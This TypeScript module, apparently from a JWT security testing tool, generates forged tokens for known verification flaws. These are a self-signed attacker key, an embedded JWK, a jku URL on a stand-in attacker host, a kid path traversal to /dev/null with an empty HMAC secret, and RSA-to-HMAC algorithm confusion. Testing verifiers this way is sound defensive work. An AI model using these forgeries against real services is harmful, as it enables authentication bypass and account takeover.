import { createHmac, generateKeyPairSync, randomBytes, sign, type KeyObject } from 'node:crypto';
import { NotApplicable } from '../engine/violation.ts';
import type { Tamper } from './tamper.ts';

/** Tokens that an attacker signs, of the claims of a good one (RFC 8725, sections 2 and 3). */

const pair = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const rsa = (): KeyObject => generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;

/** A key of the attacker's own, for the algorithm and under the name that the target expects. */
export const otherKey: Tamper = token => {
  const header = headerOf(token);
  return signed(token, header, String(header['alg']));
};

/** The attacker's key, which the header itself brings along (RFC 7515, section 4.1.3). */
export const keyInHeader: Tamper = token => signed(token, { alg: 'ES256', typ: 'JWT', jwk: pair.publicKey.export({ format: 'jwk' }) }, 'ES256');

/** The attacker's key, which lies where the header says (RFC 7515, section 4.1.2). */
export const keyBehindUrl: Tamper = token => signed(token, { ...headerOf(token), alg: 'ES256', jku: 'https://attacker.invalid/keys' }, 'ES256');

/** A name of a key that leads a careless server to an empty file, whose content is no secret. */
export const keyFromPath: Tamper = token => secretly(token, { alg: 'HS256', typ: 'JWT', kid: '../../../../../../dev/null' }, Buffer.alloc(0));

/** The public key, which everybody has, used as if it were a shared secret (RFC 8725, section 2.1). */
export const publicKeyAsSecret: Tamper = (token, publicKey) => {
  if (publicKey === null) throw new NotApplicable('the public key of the target is not known, or it has none');
  return secretly(token, { ...headerOf(token), alg: 'HS256' }, Buffer.from(publicKey.export({ type: 'spki', format: 'pem' })));
};

function signed(token: string, header: Readonly<Record<string, unknown>>, algorithm: string): string {
  if (algorithm === 'HS256') return secretly(token, header, randomBytes(32));
  const input = inputOf(token, header);
  const signature = algorithm === 'RS256' ? sign('sha256', Buffer.from(input), rsa())
    : algorithm === 'EdDSA' ? sign(null, Buffer.from(input), generateKeyPairSync('ed25519').privateKey)
      : sign('sha256', Buffer.from(input), { key: pair.privateKey, dsaEncoding: 'ieee-p1363' });
  return `${input}.${signature.toString('base64url')}`;
}

function secretly(token: string, header: Readonly<Record<string, unknown>>, secret: Buffer): string {
  const input = inputOf(token, header);
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

function inputOf(token: string, header: Readonly<Record<string, unknown>>): string {
  return `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${token.split('.')[1]}`;
}

function headerOf(token: string): Record<string, unknown> {
  return JSON.parse(Buffer.from(token.slice(0, token.indexOf('.')), 'base64url').toString()) as Record<string, unknown>;
}
